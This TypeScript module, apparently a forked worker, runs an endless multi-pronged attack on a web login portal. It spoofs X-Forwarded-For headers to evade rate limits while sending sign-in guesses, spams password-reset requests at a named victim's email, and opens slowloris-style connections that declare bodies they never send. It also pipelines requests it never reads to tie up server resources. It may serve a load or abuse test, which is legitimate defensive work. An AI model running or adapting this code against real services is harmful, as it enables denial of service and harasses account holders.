import { once } from 'node:events';
import { connect } from 'node:net';
import { takeTask } from './forked.ts';

/** Where the crowd sends its requests, and the address of an account whose resets it requests. */
export interface CrowdTarget {
  url: string;
  victim: string;
}

const senders = Array.from({ length: 200 }, (_, n) => `198.18.${n}.1`);
const pipelines = 16;
const headOf = (method: string, path: string, { host }: URL) =>
  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n`;

takeTask<CrowdTarget>(async ({ url, victim }) => {
  const portal = new URL(url);
  let guesses = 0;
  async function post(sender: string, path: string, body: object): Promise<void> {
    const headers = { 'Content-Type': 'application/json', Origin: url, 'X-Forwarded-For': sender };
    const answer = await fetch(`${url}${path}`, { method: 'POST', headers, body: JSON.stringify(body) });
    await answer.text();
  }
  function guess(sender: string): Promise<void> {
    guesses += 1;
    const email = `person-${guesses}@students.example`;
    return post(sender, '/api/auth/sign-in/email', { email, password: 'a guess' });
  }
  const requestReset = (sender: string) =>
    post(sender, '/api/auth/request-password-reset', { email: victim });
  const attacks = [
    ...senders.map((sender) => forEver(() => guess(sender))),
    ...senders.slice(0, 20).map((sender) => forEver(() => requestReset(sender))),
    ...senders.slice(20, 40).map((sender) => forEver(() => declareBody(portal, sender))),
    ...Array.from({ length: pipelines }, () => forEver(() => sendUnread(portal))),
  ];
  process.send?.('attacking');
  await Promise.all(attacks);
});

async function forEver(act: () => Promise<unknown>): Promise<never> {
  for (;;) {
    await act().catch(() => {});
    await new Promise((resolve) => setImmediate(resolve));
  }
}

/** Declares 64 KiB, sends none of it, and leaves. */
async function declareBody(portal: URL, sender: string): Promise<void> {
  const socket = connect(Number(portal.port), portal.hostname).on('error', () => {});
  const head = headOf('POST', '/api/register', portal);
  const type = `Origin: ${portal.origin}\r\nContent-Type: application/json\r\n`;
  socket.end(`${head}${type}X-Forwarded-For: ${sender}\r\nContent-Length: 65536\r\n\r\n`);
  socket.resume();
  await once(socket, 'close');
}

/** Sends 64 KiB of requests and reads nothing until the portal closes the connection. */
async function sendUnread(portal: URL): Promise<void> {
  const socket = connect(Number(portal.port), portal.hostname).on('error', () => {});
  const request = `${headOf('GET', '/api/openapi.json', portal)}\r\n`;
  socket.pause();
  socket.write(request.repeat(Math.ceil(65_536 / request.length)));
  await Promise.race([once(socket, 'close'), new Promise((resolve) => setTimeout(resolve, 2_000))]);
  socket.destroy();
}
